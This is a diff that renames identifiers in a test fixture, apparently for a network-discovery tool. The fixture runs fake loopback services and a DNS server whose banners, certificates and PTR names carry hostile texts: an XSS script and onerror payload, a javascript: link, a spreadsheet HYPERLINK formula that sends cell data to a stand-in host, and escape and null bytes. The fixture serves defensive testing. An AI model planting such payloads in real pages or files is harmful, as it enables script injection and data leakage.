@@ -3,13 +3,13 @@
 
 import { parseIp } from "../../../src/base/ip.ts";
 import { reverseName } from "../../../src/discovery/sweep/reverse-name.ts";
-import { nobodyListens, type SnmpAgent } from "../snmp/agent.ts";
+import { ignoreSocketError, type SnmpAgent } from "../snmp/agent.ts";
 import { startAgents } from "../snmp/agents.ts";
 import { type SnmpView, viewOf } from "../snmp/view.ts";
 import { makeNamedPair } from "../tls/certificates.ts";
 
 /** Executed parts set `broken` of the window. */
-export const ANNOUNCED = {
+export const HOSTILE_TEXTS = {
   markup: `"><img src=x onerror=broken=1><script>broken=2</script>`,
   link: "javascript:broken=3",
   formula: `=HYPERLINK("http://elsewhere.example/?"&A1,"click")`,
@@ -28,41 +28,41 @@ export const ANNOUNCED = {
 } as const;
 
 /** Prefix of every name in a certificate, used nowhere else. */
-export const CERTIFIED = "certificateholder";
+export const CERTIFICATE_PREFIX = "certificateholder";
 
-export type Announced = keyof typeof ANNOUNCED;
+export type HostileText = keyof typeof HOSTILE_TEXTS;
 
-const WORDS = Object.keys(ANNOUNCED) as Announced[];
+const TEXT_NAMES = Object.keys(HOSTILE_TEXTS) as HostileText[];
 
-/** 127.17.67.1 and on, in the order of ANNOUNCED. */
-export const MACHINES = WORDS.map((_, place) => `127.17.67.${place + 1}`);
+/** Addresses from 127.17.67.1 on, in the order of HOSTILE_TEXTS. */
+export const MACHINES = TEXT_NAMES.map((_, index) => `127.17.67.${index + 1}`);
 
-/** Answers name queries, and version queries by the same protocol. */
+/** Responds to name queries, and to version queries by the same protocol. */
 export const NAME_SERVER = "127.17.67.53";
 
-/** PTR names of addresses without listeners: labels as bytes, several names each. */
-const NAMES: Readonly<Record<string, readonly (readonly (string | Uint8Array)[])[]>> = {
-  "127.17.67.101": [[ANNOUNCED.markup]],
-  "127.17.67.102": [[ANNOUNCED.link]],
+/** PTR names of addresses without listeners; each name as its labels. */
+const PTR_NAMES: Readonly<Record<string, readonly (readonly (string | Uint8Array)[])[]>> = {
+  "127.17.67.101": [[HOSTILE_TEXTS.markup]],
+  "127.17.67.102": [[HOSTILE_TEXTS.link]],
   "127.17.67.103": [["שרת", "example"]],
   "127.17.67.104": [[Buffer.from("a\x1b[31m\0b"), "example"]],
   "127.17.67.105": [[Buffer.from("ff61c328", "hex"), "example"]],
   "127.17.67.106": [[..."abc"].map((letter) => letter.repeat(63)).concat("d".repeat(61))],
   "127.17.67.107": [["constructor"]],
   "127.17.67.108": [
-    [ANNOUNCED.markup.slice(0, 30), "example"],
+    [HOSTILE_TEXTS.markup.slice(0, 30), "example"],
     ["honest", "example"],
   ],
   "127.17.67.109": [["xn--4dbrk0ce"]],
 };
 
 /** Addresses with names, whether or not a service listens. */
-export const NAMED = Object.keys(NAMES);
+export const NAMED_ADDRESSES = Object.keys(PTR_NAMES);
 
 interface Greeting {
-  /** Greeting on connection, or on a request if `isAsked`. @param word on one line */
-  readonly said: (word: Uint8Array) => Uint8Array;
-  readonly isAsked?: boolean;
+  /** Bytes sent on connection, or on a request if `onRequest`. @param word hostile text, on one line */
+  readonly greet: (word: Uint8Array) => Uint8Array;
+  readonly onRequest?: boolean;
   readonly isTls?: boolean;
 }
 
@@ -79,35 +79,35 @@ function webPage(word: Uint8Array): Uint8Array {
   return bytesOf("HTTP/1.1 200 OK\r\nServer: ", word, "\r\n", head, body);
 }
 
-/** By port: that of the protocol, or one where a service that speaks first is identified by its greeting. */
+/** Greetings by port: the protocol's own, or one where a greeting identifies the service. */
 const GREETINGS: Readonly<Record<number, Greeting>> = {
-  2121: { said: (word) => bytesOf("220 ", word, " FTP server\r\n") },
+  2121: { greet: (word) => bytesOf("220 ", word, " FTP server\r\n") },
   // Without a space: the rest would be a comment.
   2222: {
-    said: (word) =>
+    greet: (word) =>
       bytesOf(
         "SSH-2.0-",
         Buffer.from(word).map((byte) => (byte === 0x20 ? 0x2f : byte)),
         "\r\n",
       ),
   },
-  2323: { said: (word) => bytesOf("\r\nto ", word, "\r\n\r\nlogin: ") },
-  2525: { said: (word) => bytesOf("220 ", word, " ESMTP\r\n") },
-  5672: { said: amqpStart, isAsked: true },
-  8080: { said: webPage, isAsked: true },
+  2323: { greet: (word) => bytesOf("\r\nto ", word, "\r\n\r\nlogin: ") },
+  2525: { greet: (word) => bytesOf("220 ", word, " ESMTP\r\n") },
+  5672: { greet: amqpStart, onRequest: true },
+  8080: { greet: webPage, onRequest: true },
   8081: {
-    said: (word) =>
+    greet: (word) =>
       bytesOf('HTTP/1.1 401 No\r\nWWW-Authenticate: Basic realm="', word, '"\r\nContent-Length: 0\r\n\r\n'),
-    isAsked: true,
+    onRequest: true,
   },
-  8443: { said: webPage, isAsked: true, isTls: true },
-  8554: { said: (word) => bytesOf("RTSP/1.0 200 OK\r\nCSeq: 1\r\nServer: ", word, "\r\n\r\n"), isAsked: true },
-  11211: { said: (word) => bytesOf("VERSION ", word, "\r\n"), isAsked: true },
-  40110: { said: (word) => bytesOf("+OK ", word, " ready\r\n") },
-  40143: { said: (word) => bytesOf("* OK ", word, " ready\r\n") },
+  8443: { greet: webPage, onRequest: true, isTls: true },
+  8554: { greet: (word) => bytesOf("RTSP/1.0 200 OK\r\nCSeq: 1\r\nServer: ", word, "\r\n\r\n"), onRequest: true },
+  11211: { greet: (word) => bytesOf("VERSION ", word, "\r\n"), onRequest: true },
+  40110: { greet: (word) => bytesOf("+OK ", word, " ready\r\n") },
+  40143: { greet: (word) => bytesOf("* OK ", word, " ready\r\n") },
 };
 
-/** Ports a sweep must probe to read all greetings; includes closed ones, or the machine would be taken for a proxy. */
+/** Ports a sweep must probe to read all greetings. Some are closed, or the machine would be taken for a proxy. */
 export const HOSTILE_PORTS = [9, 53, ...Object.keys(GREETINGS).map(Number)];
 
 /** Method frame of channel 0, class and method 10, version 0.9, and the properties product and version. */
@@ -128,29 +128,34 @@ function amqpStart(word: Uint8Array): Uint8Array {
 export class HostileMachines {
   readonly snmpPort: number;
   private readonly agents: readonly SnmpAgent[];
-  private readonly closings: readonly (() => void)[];
-  private turn = 0;
+  private readonly closers: readonly (() => void)[];
+  private rotation = 0;
 
-  private constructor(agents: readonly SnmpAgent[], listening: (own: HostileMachines) => readonly (() => void)[]) {
+  private constructor(
+    agents: readonly SnmpAgent[],
+    startListeners: (machines: HostileMachines) => readonly (() => void)[],
+  ) {
     this.agents = agents;
     this.snmpPort = agents[0]?.port ?? 0;
-    this.closings = listening(this);
+    this.closers = startListeners(this);
   }
 
   /** @param hasNames whether to start the name server as well, which requires root */
   static async start(hasNames: boolean): Promise<HostileMachines> {
     const agents = await startAgents(
-      MACHINES.map((address, place) => ({
+      MACHINES.map((address, index) => ({
         address,
-        communities: { public: announcedBySnmp(place, wordOf(place, 0)) },
+        communities: { public: snmpViewOf(index, textOf(index, 0)) },
       })),
     );
-    const pairs = await Promise.all(WORDS.map((word) => makeNamedPair(`${CERTIFIED} ${ANNOUNCED[word]}`)));
+    const pairs = await Promise.all(
+      TEXT_NAMES.map((word) => makeNamedPair(`${CERTIFICATE_PREFIX} ${HOSTILE_TEXTS[word]}`)),
+    );
     const server = hasNames ? await nameServer() : [];
-    return new HostileMachines(agents, (own) => [
-      ...MACHINES.flatMap((address, place) =>
+    return new HostileMachines(agents, (machines) => [
+      ...MACHINES.flatMap((address, index) =>
         Object.entries(GREETINGS).map(([port, greeting]) => {
-          return listen(address, Number(port), greeting, () => wordOf(place, own.turn), pairs[place]);
+          return listen(address, Number(port), greeting, () => textOf(index, machines.rotation), pairs[index]);
         }),
       ),
       ...server,
@@ -158,57 +163,57 @@ export class HostileMachines {
   }
 
   /** The text that a machine announces. */
-  announcedAt(address: string): Announced {
-    return WORDS[(MACHINES.indexOf(address) + this.turn) % WORDS.length] as Announced;
+  textAt(address: string): HostileText {
+    return TEXT_NAMES[(MACHINES.indexOf(address) + this.rotation) % TEXT_NAMES.length] as HostileText;
   }
 
-  /** Exchanges the texts between the machines. */
+  /** Rotates the texts between the machines. */
   swap(): void {
-    this.turn += 1;
-    for (const [place, agent] of this.agents.entries())
-      agent.serve("public", announcedBySnmp(place, wordOf(place, this.turn)));
+    this.rotation += 1;
+    for (const [index, agent] of this.agents.entries())
+      agent.serve("public", snmpViewOf(index, textOf(index, this.rotation)));
   }
 
   close(): void {
     for (const agent of this.agents) agent.close();
-    for (const close of this.closings) close();
+    for (const close of this.closers) close();
   }
 }
 
-function wordOf(place: number, turn: number): Uint8Array {
-  const word = ANNOUNCED[WORDS[(place + turn) % WORDS.length] as Announced];
+function textOf(index: number, rotation: number): Uint8Array {
+  const word = HOSTILE_TEXTS[TEXT_NAMES[(index + rotation) % TEXT_NAMES.length] as HostileText];
   return typeof word === "string" ? Buffer.from(word) : word;
 }
 
 function listen(
   hostname: string,
   port: number,
-  { said, isAsked = false, isTls = false }: Greeting,
+  { greet, onRequest = false, isTls = false }: Greeting,
   word: () => Uint8Array,
   pair: { readonly certificate: string; readonly privateKey: string } | undefined,
 ): () => void {
-  const say = (socket: { end(bytes: Uint8Array): unknown }) => void socket.end(said(word()));
+  const send = (socket: { end(bytes: Uint8Array): unknown }) => void socket.end(greet(word()));
   const listener = Bun.listen({
     hostname,
     port,
     ...(isTls && pair !== undefined ? { tls: { cert: pair.certificate, key: pair.privateKey } } : {}),
     socket: {
       open: (socket) => {
-        if (!isAsked) say(socket);
+        if (!onRequest) send(socket);
       },
       data: (socket) => {
-        if (isAsked) say(socket);
+        if (onRequest) send(socket);
       },
-      error: nobodyListens,
+      error: ignoreSocketError,
     },
   });
   return () => listener.stop(true);
 }
 
-/** A device with a port; all its texts are the word. */
-function announcedBySnmp(place: number, word: Uint8Array): SnmpView {
+/** SNMP view of a device with one port, in which every text is the word. */
+function snmpViewOf(index: number, word: Uint8Array): SnmpView {
   const text = word.subarray(0, SNMP_TEXT_MAX_BYTES);
-  const mac = Uint8Array.of(0x00, 0x1b, 0x21, 0x67, 0x67, place);
+  const mac = Uint8Array.of(0x00, 0x1b, 0x21, 0x67, 0x67, index);
   const LOCALLY_ASSIGNED = 7;
   return viewOf({
     "1.3.6.1.2.1.1.1.0": text,
@@ -238,13 +243,13 @@ function announcedBySnmp(place: number, word: Uint8Array): SnmpView {
   });
 }
 
-/** Allows several in a datagram. */
+/** Leaves room for several texts in a datagram. */
 const SNMP_TEXT_MAX_BYTES = 600;
 
-/** Answers PTR over UDP and `version.bind` over TCP (RFC 1035 section 4). */
+/** Starts a name server: PTR over UDP and `version.bind` over TCP (RFC 1035 section 4). */
 async function nameServer(): Promise<readonly (() => void)[]> {
-  const named = new Map(
-    Object.entries(NAMES).map(([address, names]) => [reverseName(parseIp(address) as never), names] as const),
+  const namesByQuery = new Map(
+    Object.entries(PTR_NAMES).map(([address, names]) => [reverseName(parseIp(address) as never), names] as const),
   );
   const udp = await Bun.udpSocket({
     hostname: NAME_SERVER,
@@ -252,10 +257,10 @@ async function nameServer(): Promise<readonly (() => void)[]> {
     socket: {
       data: (socket, query, port, from) => {
         const { name, end } = questionIn(query);
-        const records = (named.get(name) ?? []).map((labels) => record(12, 1, dnsName(labels)));
+        const records = (namesByQuery.get(name) ?? []).map((labels) => record(12, 1, dnsName(labels)));
         socket.send(reply(query.subarray(0, end), records), port, from);
       },
-      error: nobodyListens,
+      error: ignoreSocketError,
     },
   });
   const tcp = Bun.listen({
@@ -263,11 +268,11 @@ async function nameServer(): Promise<readonly (() => void)[]> {
     port: 53,
     socket: {
       data: (socket, bytes) => {
-        const word = Buffer.from(ANNOUNCED.markup);
+        const word = Buffer.from(HOSTILE_TEXTS.markup);
         const message = reply(bytes.subarray(2), [record(16, 3, bytesOf(Uint8Array.of(word.length), word))]);
         socket.end(bytesOf(Uint8Array.of(message.length >>> 8, message.length & 0xff), message));
       },
-      error: nobodyListens,
+      error: ignoreSocketError,
     },
   });
   return [() => udp.close(), () => tcp.stop(true)];
@@ -278,23 +283,23 @@ const HEADER_BYTES = 12;
 /** @returns the queried name in lower case, and the end of its question */
 function questionIn(query: Uint8Array): { readonly name: string; readonly end: number } {
   const labels: string[] = [];
-  let at = HEADER_BYTES;
-  for (let length = query[at] ?? 0; length > 0; length = query[at] ?? 0) {
-    labels.push(Buffer.from(query.subarray(at + 1, at + 1 + length)).toString("latin1"));
-    at += length + 1;
+  let offset = HEADER_BYTES;
+  for (let length = query[offset] ?? 0; length > 0; length = query[offset] ?? 0) {
+    labels.push(Buffer.from(query.subarray(offset + 1, offset + 1 + length)).toString("latin1"));
+    offset += length + 1;
   }
-  return { name: labels.join(".").toLowerCase(), end: at + 5 };
+  return { name: labels.join(".").toLowerCase(), end: offset + 5 };
 }
 
-/** @param asked header and question of the query */
-function reply(asked: Uint8Array, records: readonly Uint8Array[]): Uint8Array {
-  const message = bytesOf(asked, ...records);
-  // An authoritative answer; NXDOMAIN without a record.
+/** @param question header and question of the query */
+function reply(question: Uint8Array, records: readonly Uint8Array[]): Uint8Array {
+  const message = bytesOf(question, ...records);
+  // An authoritative response; NXDOMAIN without a record.
   message.set([0x85, records.length === 0 ? 0x83 : 0x80, 0, 1, 0, records.length, 0, 0, 0, 0], 2);
   return message;
 }
 
-/** For the queried name, which is the first of the message. */
+/** Resource record for the queried name, the first name of the message. */
 function record(type: number, family: number, data: Uint8Array): Uint8Array {
   return bytesOf(Uint8Array.of(0xc0, HEADER_BYTES, 0, type, 0, family, 0, 0, 0, 0, 0, data.length), data);
 }
